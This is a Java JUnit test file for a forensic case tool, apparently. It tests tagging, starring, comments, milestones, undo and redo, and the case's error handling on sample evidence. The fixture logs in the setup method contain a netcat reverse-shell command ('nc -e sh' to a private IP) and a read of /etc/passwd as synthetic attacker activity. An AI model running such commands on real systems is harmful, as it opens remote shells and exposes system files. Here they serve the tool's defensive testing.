package salvor.casefile;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Clock;
import java.time.Instant;
import java.time.ZoneOffset;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.concurrent.CountDownLatch;
import java.util.stream.Stream;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import salvor.casefile.CaseUnusable.Problem;
import salvor.custody.Sha256;
import salvor.jobs.Jobs;
import salvor.jobs.Progress;
import salvor.timeline.Milestone;

/** What people add to a case, and take back. */
class EditsTest {
  private static final Clock CLOCK =
      Clock.fixed(Instant.parse("2026-11-20T10:00:00Z"), ZoneOffset.UTC);
  private static final List<String> TAGS = List.of("checked", "lateral", "é b", "");

  @TempDir Path dir;
  private Path evidence;
  private Path folder;
  private final Cases cases = new Cases(Synthetic::read, Synthetic::judge, CLOCK);

  @BeforeEach
  void writeEvidence() throws IOException {
    folder = dir.resolve("case");
    evidence = Files.createDirectories(dir.resolve("evidence"));
    Files.writeString(evidence.resolve("a.log"), "ls -l\nnc -e sh 10.0.0.9\ncat x\nid\n");
    Files.writeString(evidence.resolve("b.log"), "cat /etc/passwd\nid\n");
  }

  private OpenedCase open() throws Exception {
    return cases.open(Opening.inFolder(List.of(evidence), List.of(), folder), Progress.NONE);
  }

  private static Object content(OpenedCase opened) {
    return List.of(opened.marks().all(), opened.edits().filters(), opened.marks().added());
  }

  private static void edit(OpenedCase opened, Random random) throws CaseUnusable {
    Edits edits = opened.edits();
    int row = random.nextInt(opened.evidence().observations().size());
    int other = random.nextInt(opened.evidence().observations().size());
    String tag = TAGS.get(random.nextInt(TAGS.size()));
    Milestone milestone = Milestone.values()[random.nextInt(Milestone.values().length)];
    List<Comment> comments = opened.marks().of(row).comments();
    switch (random.nextInt(13)) {
      case 0 -> edits.star(row, other);
      case 1 -> edits.unstar(row);
      case 2 -> edits.tag(tag, row, other);
      case 3 -> edits.untag(tag, row);
      case 4 -> edits.comment("comment " + random.nextInt(), row);
      case 5 -> edits.saveFilter(tag, "row=" + row);
      case 6 -> edits.removeFilter(tag);
      case 7 -> edits.milestone(milestone, row);
      case 8 -> edits.openMilestone(milestone);
      case 9 -> edits.accept("reason " + random.nextInt(3), row, other);
      case 10 -> edits.reject(row);
      case 11 -> {
        if (random.nextBoolean()) {
          edits.undo();
        } else {
          edits.redo();
        }
      }
      default -> {
        if (!comments.isEmpty() && random.nextBoolean()) {
          edits.changeComment(row, comments.getFirst().id(), "changed " + random.nextInt());
        } else if (!comments.isEmpty()) {
          edits.removeComment(row, comments.getLast().id());
        }
      }
    }
  }

  @Test
  void aThousandEditsLeaveTheEvidenceAloneAndUndoneToTheStartTheCaseIsAsItWas() throws Exception {
    List<String> hashes = hashes();
    Object after;
    try (OpenedCase opened = open()) {
      Object before = content(opened);
      Random random = new Random(11);
      while (opened.edits().log().size() < 1000) {
        edit(opened, random);
      }
      after = content(opened);
      assertThat(after).isNotEqualTo(before);
      while (opened.edits().undo().isPresent()) {
        assertThat(opened.edits().redoable()).isPresent();
      }
      assertThat(content(opened)).isEqualTo(before);
    }
    assertThat(hashes()).isEqualTo(hashes);
    try (OpenedCase opened = open()) {
      assertThat(opened.marks().all()).isEmpty();
      while (opened.edits().redo().isPresent()) {
        assertThat(opened.edits().undoable()).isPresent();
      }
      assertThat(content(opened)).isEqualTo(after);
      assertThat(opened.edits().log()).hasSizeGreaterThanOrEqualTo(1000);
    }
  }

  private List<String> hashes() throws IOException {
    List<String> hashes = new ArrayList<>();
    try (Stream<Path> files = Files.list(evidence)) {
      for (Path file : files.sorted().toList()) {
        byte[] bytes = Files.readAllBytes(file);
        Sha256 hash = new Sha256();
        hash.update(bytes, 0, bytes.length);
        hashes.add(file.getFileName() + " " + hash.hex());
      }
    }
    return hashes;
  }

  @Test
  void aMilestoneStandsOnOneEventAtATime() throws Exception {
    try (OpenedCase opened = open()) {
      Edits edits = opened.edits();
      edits.milestone(Milestone.ISOLATED, 1);
      edits.milestone(Milestone.TERMINATED, 1);
      assertThat(edits.milestone(Milestone.ISOLATED, 1)).as("it stands there already").isEmpty();
      assertThat(edits.milestone(Milestone.ISOLATED, 3).orElseThrow().events()).isEqualTo(2);
      assertThat(opened.marks().milestones())
          .containsExactlyInAnyOrderEntriesOf(
              Map.of(Milestone.ISOLATED, 3, Milestone.TERMINATED, 1));
      assertThat(opened.marks().of(3).milestones()).containsExactly(Milestone.ISOLATED);
      edits.undo();
      assertThat(opened.marks().milestones()).containsEntry(Milestone.ISOLATED, 1);
      assertThat(opened.marks().reached(Milestone.ISOLATED::equals).stream()).containsExactly(1);
      edits.openMilestone(Milestone.ISOLATED);
    }
    try (OpenedCase opened = open()) {
      assertThat(opened.marks().milestones()).containsOnlyKeys(Milestone.TERMINATED);
    }
  }

  @Test
  void whatIsAcceptedKeepsItsVerdictAndSaysWhoAndWhy() throws Exception {
    try (OpenedCase opened = open()) {
      var verdict = opened.verdicts().judgement(1);
      opened.edits().accept("the weekly export", 1, 2);
      assertThat(opened.verdicts().judgement(1)).isEqualTo(verdict);
    }
    try (OpenedCase opened = open()) {
      assertThat(opened.marks().accepted().stream()).containsExactly(1, 2);
      Comment accepted = opened.marks().of(1).accepted();
      assertThat(accepted).isNotNull();
      assertThat(accepted.text()).isEqualTo("the weekly export");
      assertThat(accepted.author()).isEqualTo(System.getProperty("user.name"));
      opened.edits().reject(2);
      assertThat(opened.marks().accepted().stream()).containsExactly(1);
    }
  }

  @Test
  void whoReadsNeverWaitsForWhoWrites() throws Exception {
    CountDownLatch writes = new CountDownLatch(1);
    CountDownLatch go = new CountDownLatch(1);
    Journal slow =
        new Journal() {
          @Override
          public void added(Edit edit, List<Edit> dropped) {
            writes.countDown();
            try {
              go.await();
            } catch (InterruptedException e) {
              throw new AssertionError(e);
            }
          }

          @Override
          public void turned(Edit edit) {}

          @Override
          public void put(String key, String value) {}
        };
    try (OpenedCase opened = open()) {
      People people = People.kept(opened.evidence(), slow, Journal.Kept.NOTHING, "somebody", CLOCK);
      var job = new Jobs().start("edit", _ -> people.edits().tag("slow", 0));
      writes.await();
      assertThat(people.edits().filters()).isEmpty();
      assertThat(people.edits().undoable()).isEmpty();
      assertThat(people.edits().log()).isEmpty();
      assertThat(people.marks().of(0)).isEqualTo(Mark.NONE);
      assertThat(people.marks().rows().isEmpty()).isTrue();
      assertThat(people.marks().tags()).isEmpty();
      go.countDown();
      job.await();
      assertThat(people.marks().tags()).containsOnlyKeys("slow");
    }
  }

  @Test
  void anEditOfACaseWhoseFileIsGoneChangesNothingAndSaysWhatToDo() throws Exception {
    OpenedCase opened = open();
    opened.edits().star(0);
    Object before = content(opened);
    Files.move(folder.resolve("case.mv.db"), dir.resolve("elsewhere"));
    assertThatThrownBy(() -> opened.edits().tag("lost", 0))
        .isInstanceOfSatisfying(
            CaseUnusable.class, e -> assertThat(e.problem()).isEqualTo(Problem.FILE_GONE))
        .hasMessageContaining("case.mv.db")
        .hasMessageContaining("put the folder or its device back");
    assertThatThrownBy(() -> opened.edits().undo()).isInstanceOf(CaseUnusable.class);
    assertThat(content(opened)).isEqualTo(before);
    assertThat(opened.edits().log()).hasSize(1);
    Files.move(dir.resolve("elsewhere"), folder.resolve("case.mv.db"));
    opened.edits().tag("kept", 0);
    opened.close();
  }

  @Test
  void anEditKnowsNoMoreEventsThanItCanKeepInTime() throws Exception {
    try (OpenedCase opened = open()) {
      assertThatThrownBy(() -> opened.edits().star(new int[Edits.MOST_EVENTS + 1]))
          .isInstanceOf(IllegalArgumentException.class);
    }
  }

  @Test
  void editsAreUndoneDownToOneAndDoneAgainUpToOne() throws Exception {
    try (OpenedCase opened = open()) {
      Edits edits = opened.edits();
      for (String tag : List.of("a", "b", "c", "d")) {
        edits.tag(tag, 0);
      }
      assertThat(edits.undoTo(2).orElseThrow().number()).isEqualTo(2);
      assertThat(opened.marks().tags()).containsOnlyKeys("a");
      assertThat(edits.undoTo(2)).isEmpty();
      assertThat(edits.redoTo(3).orElseThrow().number()).isEqualTo(3);
      assertThat(opened.marks().tags()).containsOnlyKeys("a", "b", "c");
    }
  }

  @Test
  void everythingIsTakenOffAnEventAsOneEdit() throws Exception {
    try (OpenedCase opened = open()) {
      Edits edits = opened.edits();
      edits.star(0, 1);
      edits.comment("seen", 0);
      edits.milestone(Milestone.ISOLATED, 0);
      Mark before = opened.marks().of(0);
      edits.clear(0);
      assertThat(opened.marks().of(0)).isEqualTo(Mark.NONE);
      assertThat(opened.marks().of(1).starred()).isTrue();
      assertThat(edits.clear(0)).as("nothing is left to take").isEmpty();
      edits.undo();
      assertThat(opened.marks().of(0)).isEqualTo(before);
    }
  }
}
